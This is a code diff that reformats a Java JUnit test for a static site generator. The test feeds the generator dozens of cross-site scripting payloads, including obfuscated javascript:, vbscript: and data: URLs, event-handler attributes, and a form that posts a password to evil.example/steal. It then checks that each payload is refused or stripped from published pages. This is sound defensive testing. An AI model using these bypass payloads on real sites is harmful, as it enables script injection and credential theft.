@@ -4,11 +4,11 @@ import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
+import casebook.diag.Diagnostic;
+import casebook.diag.Severity;
 import casebook.pipeline.Build;
 import casebook.pipeline.BuildOptions;
 import casebook.pipeline.BuildResult;
-import casebook.diag.Diagnostic;
-import casebook.diag.Severity;
 import casebook.safety.UrlPolicy;
 import casebook.testing.SiteFixture;
 import java.nio.file.Files;
@@ -28,13 +28,20 @@ import org.junit.jupiter.params.provider.MethodSource;
  * render in memory, that nothing script-capable reaches a page ({@link PublishedHtml}).
  */
 class HostileLinksTest {
-    @TempDir Path tmp;
+    @TempDir
+    Path tmp;
 
-    enum Outcome { ERROR, WARNING }
+    enum Outcome {
+        ERROR,
+        WARNING
+    }
 
     /** One hostile input: the files it adds, the outcome and every message expected at the hostile file. */
     record Case(String name, String files, Outcome outcome, List<String> expected) {
-        @Override public String toString() { return name; }
+        @Override
+        public String toString() {
+            return name;
+        }
     }
 
     static final String PAGE = "a/index.ja.md";
@@ -74,93 +81,213 @@ class HostileLinksTest {
                 error("mixed case scheme", "[x](JaVaScRiPt:alert(1))", refused(5, 1, "JaVaScRiPt:alert(1)")),
                 error("angle-bracket destination", "[x](<javascript:alert(1)>)", refused(5, 1, js)),
                 error("autolink", "<javascript:alert(1)>", refused(5, 1, js)),
-                error("&Tab; inside the scheme", "[x](java&Tab;script:alert(1))", refused(5, 1, js)), // Flexmark decodes &Tab; to nothing
-                error("&NewLine; inside the scheme", "[x](java&NewLine;script:alert(1))", refused(5, 1, "java\nscript:alert(1)")),
+                error(
+                        "&Tab; inside the scheme",
+                        "[x](java&Tab;script:alert(1))",
+                        refused(5, 1, js)), // Flexmark decodes &Tab; to nothing
+                error(
+                        "&NewLine; inside the scheme",
+                        "[x](java&NewLine;script:alert(1))",
+                        refused(5, 1, "java\nscript:alert(1)")),
                 error("decimal entity", "[x](&#106;avascript:alert(1))", refused(5, 1, js)),
-                error("entities without semicolons, leading zeros", "[x](&#0000106&#0000097vascript:alert(1))",
+                error(
+                        "entities without semicolons, leading zeros",
+                        "[x](&#0000106&#0000097vascript:alert(1))",
                         refused(5, 1, "&#0000106&#0000097vascript:alert(1)")),
                 error("image", "![x](javascript:alert(1))", refused(5, 1, js)),
                 error("vbscript", "[x](vbscript:msgbox(1))", refused(5, 1, "vbscript:msgbox(1)")),
                 error("livescript", "[x](livescript:alert(1))", refused(5, 1, "livescript:alert(1)")),
-                error("data: text/html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+                error(
+                        "data: text/html",
+                        "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
                         refused(5, 1, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==")),
                 error("file:", "[x](file:///etc/passwd)", refused(5, 1, "file:///etc/passwd")),
                 error("link inside a paragraph", "本文 [x](javascript:alert(1)) 本文", refused(5, 4, js)),
                 error("reference link", "[x][r]\n\n[r]: javascript:alert(1)", refused(7, 6, js)),
-                error("reference image", "![x][r]\n\n[r]: data:image/svg+xml,%3Csvg%20onload=alert(1)%3E",
+                error(
+                        "reference image",
+                        "![x][r]\n\n[r]: data:image/svg+xml,%3Csvg%20onload=alert(1)%3E",
                         refused(7, 6, "data:image/svg+xml,%3Csvg%20onload=alert(1)%3E")),
-                error("link inside an HTML block's Markdown", "<div>\n\n[x](javascript:alert(1))\n\n</div>", refused(7, 1, js)),
+                error(
+                        "link inside an HTML block's Markdown",
+                        "<div>\n\n[x](javascript:alert(1))\n\n</div>",
+                        refused(7, 1, js)),
                 // Script links in raw HTML attributes
                 error("raw href", "<a href=\"javascript:alert(1)\">x</a>", refused(5, 10, js)),
-                error("raw href with &Tab;", "<a href=\"java&Tab;script:alert(1)\">x</a>", refused(5, 10, "java\tscript:alert(1)")),
-                error("raw href with &NewLine;", "<a href=\"java&NewLine;script:alert(1)\">x</a>", refused(5, 10, "java\nscript:alert(1)")),
-                error("raw href jav&#x09;ascript", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", refused(5, 10, "jav\tascript:alert(1)")),
-                error("raw href &#x0A;", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>", refused(5, 10, "jav\nascript:alert(1)")),
-                error("raw href &#x0D;", "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>", refused(5, 10, "jav\rascript:alert(1)")),
-                error("raw href hex entities", "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
+                error(
+                        "raw href with &Tab;",
+                        "<a href=\"java&Tab;script:alert(1)\">x</a>",
+                        refused(5, 10, "java\tscript:alert(1)")),
+                error(
+                        "raw href with &NewLine;",
+                        "<a href=\"java&NewLine;script:alert(1)\">x</a>",
+                        refused(5, 10, "java\nscript:alert(1)")),
+                error(
+                        "raw href jav&#x09;ascript",
+                        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
+                        refused(5, 10, "jav\tascript:alert(1)")),
+                error(
+                        "raw href &#x0A;",
+                        "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
+                        refused(5, 10, "jav\nascript:alert(1)")),
+                error(
+                        "raw href &#x0D;",
+                        "<a href=\"jav&#x0D;ascript:alert(1)\">x</a>",
+                        refused(5, 10, "jav\rascript:alert(1)")),
+                error(
+                        "raw href hex entities",
+                        "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
                         refused(5, 10, js)),
-                error("raw href hex without semicolons", "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>", refused(5, 10, js)),
-                error("raw href decimal without semicolons", "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
+                error(
+                        "raw href hex without semicolons",
+                        "<a href=\"&#x6A&#x61vascript:alert(1)\">x</a>",
                         refused(5, 10, js)),
-                error("raw href leading zeros", "<a href=\"&#0000106&#0000097&#0000118&#0000097script:alert(1)\">x</a>", refused(5, 10, js)),
+                error(
+                        "raw href decimal without semicolons",
+                        "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">x</a>",
+                        refused(5, 10, js)),
+                error(
+                        "raw href leading zeros",
+                        "<a href=\"&#0000106&#0000097&#0000118&#0000097script:alert(1)\">x</a>",
+                        refused(5, 10, js)),
                 error("raw href &colon;", "<a href=\"javascript&colon;alert(1)\">x</a>", refused(5, 10, js)),
-                error("raw href leading spaces and control", "<a href=\" &#14;  javascript:alert(1)\">x</a>", refused(5, 10, " \u000e  " + js)),
-                error("raw href vbscript", "<a href=\"vbscript:msgbox(1)\">x</a>", refused(5, 10, "vbscript:msgbox(1)")),
-                error("raw href data:", "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
+                error(
+                        "raw href leading spaces and control",
+                        "<a href=\" &#14;  javascript:alert(1)\">x</a>",
+                        refused(5, 10, " \u000e  " + js)),
+                error(
+                        "raw href vbscript",
+                        "<a href=\"vbscript:msgbox(1)\">x</a>",
+                        refused(5, 10, "vbscript:msgbox(1)")),
+                error(
+                        "raw href data:",
+                        "<a href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\">x</a>",
                         refused(5, 10, "data:text/html,<script>alert(1)</script>")),
-                error("raw img src, upper case", "<IMG SRC=\"JAVASCRIPT:alert('XSS')\">", refused(5, 11, "JAVASCRIPT:alert('XSS')")),
+                error(
+                        "raw img src, upper case",
+                        "<IMG SRC=\"JAVASCRIPT:alert('XSS')\">",
+                        refused(5, 11, "JAVASCRIPT:alert('XSS')")),
                 error("raw img src unquoted", "<img src=JaVaScRiPt:alert(1)>", refused(5, 10, "JaVaScRiPt:alert(1)")),
-                error("inline raw href in a paragraph", "本文 <a href=\"javascript:alert(1)\">x</a> 本文", refused(5, 13, js)),
-                error("svg a xlink:href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
-                        removed(5, 1, "<svg>"), refused(5, 21, js), removed(5, 42, "<text>")),
-                error("math a xlink:href", "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
-                        removed(5, 1, "<math>"), refused(5, 22, js)),
-                error("table background", "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>", refused(5, 20, js)),
-                error("iframe src", "<iframe src=\"javascript:alert(1)\"></iframe>", removed(5, 1, "<iframe>"), refused(5, 14, js)),
-                error("form formaction", "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
-                        removed(5, 1, "<form>"), removed(5, 7, "<button>"), refused(5, 27, js)),
+                error(
+                        "inline raw href in a paragraph",
+                        "本文 <a href=\"javascript:alert(1)\">x</a> 本文",
+                        refused(5, 13, js)),
+                error(
+                        "svg a xlink:href",
+                        "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
+                        removed(5, 1, "<svg>"),
+                        refused(5, 21, js),
+                        removed(5, 42, "<text>")),
+                error(
+                        "math a xlink:href",
+                        "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
+                        removed(5, 1, "<math>"),
+                        refused(5, 22, js)),
+                error(
+                        "table background",
+                        "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
+                        refused(5, 20, js)),
+                error(
+                        "iframe src",
+                        "<iframe src=\"javascript:alert(1)\"></iframe>",
+                        removed(5, 1, "<iframe>"),
+                        refused(5, 14, js)),
+                error(
+                        "form formaction",
+                        "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
+                        removed(5, 1, "<form>"),
+                        removed(5, 7, "<button>"),
+                        refused(5, 27, js)),
                 error("data.yaml value with a Markdown link", "{{data.link}}", refused(5, 1, js)),
                 error("data.yaml value with raw HTML", "{{data.html}}", refused(5, 10, js)),
-                new Case("site.yaml portal", page("本文。").replace("order: [a, b]\n", "order: [a, b]\nportal: \"javascript:alert(1)\"\n"),
-                        Outcome.ERROR, List.of("{site}:7:9: error: " + UrlPolicy.message("portal", js))),
-                new Case("site.yaml base_url", page("本文。").replace("order: [a, b]\n", "order: [a, b]\nbase_url: \" JAVASCRIPT:alert(1)\"\n"),
-                        Outcome.ERROR, List.of("{site}:7:11: error: " + UrlPolicy.message("base_url", " JAVASCRIPT:alert(1)"))),
+                new Case(
+                        "site.yaml portal",
+                        page("本文。").replace("order: [a, b]\n", "order: [a, b]\nportal: \"javascript:alert(1)\"\n"),
+                        Outcome.ERROR,
+                        List.of("{site}:7:9: error: " + UrlPolicy.message("portal", js))),
+                new Case(
+                        "site.yaml base_url",
+                        page("本文。").replace("order: [a, b]\n", "order: [a, b]\nbase_url: \" JAVASCRIPT:alert(1)\"\n"),
+                        Outcome.ERROR,
+                        List.of("{site}:7:11: error: " + UrlPolicy.message("base_url", " JAVASCRIPT:alert(1)"))),
                 // Dangerous raw HTML (the list and the cheat sheet's element and attribute forms)
                 warning("script block", "<script>alert(1)</script>", removed(5, 1, "<script>")),
                 warning("script inside a div", "<div><script>alert(1)</script></div>", removed(5, 6, "<script>")),
                 warning("inline script", "本文 <script>alert(1)</script> 本文", removed(5, 4, "<script>")),
                 warning("split script tag", "<scr<script>ipt>alert(1)</script>", removed(5, 5, "<script>")),
-                warning("img onerror", "<img src=\"https://example.jp/x.png\" alt=\"\" onerror=\"alert(1)\">",
+                warning(
+                        "img onerror",
+                        "<img src=\"https://example.jp/x.png\" alt=\"\" onerror=\"alert(1)\">",
                         removed(5, 44, "onerror=\"alert(1)\" from <img>")),
-                warning("svg animate", "<svg><animate onbegin=\"alert(1)\" attributeName=\"x\" dur=\"1s\"></animate></svg>",
-                        removed(5, 1, "<svg>"), removed(5, 6, "<animate>")),
-                warning("xlink:href on an a", "<a xlink:href=\"https://example.jp/\">x</a>",
+                warning(
+                        "svg animate",
+                        "<svg><animate onbegin=\"alert(1)\" attributeName=\"x\" dur=\"1s\"></animate></svg>",
+                        removed(5, 1, "<svg>"),
+                        removed(5, 6, "<animate>")),
+                warning(
+                        "xlink:href on an a",
+                        "<a xlink:href=\"https://example.jp/\">x</a>",
                         removed(5, 4, "xlink:href=\"https://example.jp/\" from <a>")),
                 warning("base href", "<base href=\"https://evil.example/\">", removed(5, 1, "<base>")),
-                warning("meta refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">", removed(5, 1, "<meta>")),
-                warning("form with a password field",
+                warning(
+                        "meta refresh",
+                        "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
+                        removed(5, 1, "<meta>")),
+                warning(
+                        "form with a password field",
                         "<form action=\"https://evil.example/steal\" method=\"post\"><input type=\"password\" name=\"p\"><button>送信</button></form>",
-                        removed(5, 1, "<form>"), removed(5, 57, "<input>"), removed(5, 89, "<button>")),
-                warning("external stylesheet", "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">", removed(5, 1, "<link>")),
+                        removed(5, 1, "<form>"),
+                        removed(5, 57, "<input>"),
+                        removed(5, 89, "<button>")),
+                warning(
+                        "external stylesheet",
+                        "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
+                        removed(5, 1, "<link>")),
                 warning("style element", "<style>body{display:none}</style>", removed(5, 1, "<style>")),
-                warning("style url(javascript:)", "<div style=\"background:url(javascript:alert(1))\">x</div>",
+                warning(
+                        "style url(javascript:)",
+                        "<div style=\"background:url(javascript:alert(1))\">x</div>",
                         removed(5, 6, "style=\"background:url(javascript:alert(1))\" from <div>")),
-                warning("style expression()", "<p style=\"width: expression(alert(1))\">x</p>",
+                warning(
+                        "style expression()",
+                        "<p style=\"width: expression(alert(1))\">x</p>",
                         removed(5, 4, "style=\"width: expression(alert(1))\" from <p>")),
-                warning("iframe srcdoc", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", removed(5, 1, "<iframe>")),
-                warning("object data", "<object data=\"https://evil.example/x.swf\"></object>", removed(5, 1, "<object>")),
+                warning(
+                        "iframe srcdoc",
+                        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+                        removed(5, 1, "<iframe>")),
+                warning(
+                        "object data",
+                        "<object data=\"https://evil.example/x.swf\"></object>",
+                        removed(5, 1, "<object>")),
                 warning("embed src", "<embed src=\"https://evil.example/x.swf\">", removed(5, 1, "<embed>")),
                 warning("body onload", "<body onload=\"alert(1)\">", removed(5, 1, "<body>")),
                 warning("input autofocus onfocus", "<input autofocus onfocus=\"alert(1)\">", removed(5, 1, "<input>")),
-                warning("onclick on a paragraph", "<p onclick=\"alert(1)\">x</p>", removed(5, 4, "onclick=\"alert(1)\" from <p>")),
-                warning("inline onmouseover split over tags", "前 <span onmouseover=\"alert(1)\">中</span> 後",
+                warning(
+                        "onclick on a paragraph",
+                        "<p onclick=\"alert(1)\">x</p>",
+                        removed(5, 4, "onclick=\"alert(1)\" from <p>")),
+                warning(
+                        "inline onmouseover split over tags",
+                        "前 <span onmouseover=\"alert(1)\">中</span> 後",
                         removed(5, 9, "onmouseover=\"alert(1)\" from <span>")),
-                warning("a with an allowed href and a handler", "<a href=\"https://example.jp/\" onclick=\"alert(1)\">x</a>",
+                warning(
+                        "a with an allowed href and a handler",
+                        "<a href=\"https://example.jp/\" onclick=\"alert(1)\">x</a>",
                         removed(5, 31, "onclick=\"alert(1)\" from <a>")),
-                warning("details ontoggle", "<details open ontoggle=\"alert(1)\">x</details>", removed(5, 1, "<details>")),
-                warning("video source onerror", "<video><source onerror=\"alert(1)\"></video>",
-                        removed(5, 1, "<video>"), removed(5, 8, "<source>")),
-                warning("noscript", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", removed(5, 1, "<noscript>")),
+                warning(
+                        "details ontoggle",
+                        "<details open ontoggle=\"alert(1)\">x</details>",
+                        removed(5, 1, "<details>")),
+                warning(
+                        "video source onerror",
+                        "<video><source onerror=\"alert(1)\"></video>",
+                        removed(5, 1, "<video>"),
+                        removed(5, 8, "<source>")),
+                warning(
+                        "noscript",
+                        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
+                        removed(5, 1, "<noscript>")),
                 warning("marquee", "<marquee>x</marquee>", removed(5, 1, "<marquee>")));
     }
 
@@ -169,19 +296,26 @@ class HostileLinksTest {
     void hostileInputNeverReachesAPage(Case c) throws Exception {
         Path content = SiteFixture.write(tmp.resolve("content"), c.files());
         if (c.name().startsWith("data.yaml")) {
-            SiteFixture.write(content, "-- a/data.yaml --\nlink: \"[x](javascript:alert(1))\"\nhtml: \"<a href='javascript:alert(1)'>x</a>\"\n");
+            SiteFixture.write(
+                    content,
+                    "-- a/data.yaml --\nlink: \"[x](javascript:alert(1))\"\nhtml: \"<a href='javascript:alert(1)'>x</a>\"\n");
         }
         Path out = tmp.resolve("site");
         BuildResult r = SiteFixture.build(content, out);
         String messages = SiteFixture.messages(r);
         String page = content.resolve(PAGE).toString().replace('\\', '/');
         String site = content.resolve("site.yaml").toString().replace('\\', '/');
-        List<String> expected = c.expected().stream().map(e -> e.replace("{a}", page).replace("{site}", site)).toList();
-        for (String e : expected) assertTrue(messages.contains(e), "expected\n" + e + "\nin\n" + messages);
+        List<String> expected = c.expected().stream()
+                .map(e -> e.replace("{a}", page).replace("{site}", site))
+                .toList();
+        for (String e : expected) {
+            assertTrue(messages.contains(e), "expected\n" + e + "\nin\n" + messages);
+        }
         // nothing else is reported about the hostile files: every report above, and no removal that did not happen
         List<Diagnostic> here = r.diagnostics().sorted().stream()
                 .filter(d -> d.severity() != Severity.NOTE)
-                .filter(d -> d.toString().startsWith(page + ":") || d.toString().startsWith(site + ":")).toList();
+                .filter(d -> d.toString().startsWith(page + ":") || d.toString().startsWith(site + ":"))
+                .toList();
         assertEquals(expected.size(), here.size(), messages);
         if (c.outcome() == Outcome.ERROR) {
             assertTrue(r.diagnostics().hasErrors(), messages);
@@ -194,7 +328,10 @@ class HostileLinksTest {
             PublishedHtml.assertNothingScriptCapable(out);
         }
         // what check and the preview server render, errors or not
-        BuildResult memory = Build.run(BuildOptions.defaults().withContent(content).withOut(tmp.resolve("memory")).withWrite(false));
+        BuildResult memory = Build.run(BuildOptions.defaults()
+                .withContent(content)
+                .withOut(tmp.resolve("memory"))
+                .withWrite(false));
         PublishedHtml.assertNothingScriptCapable(memory.output().files());
     }
 }
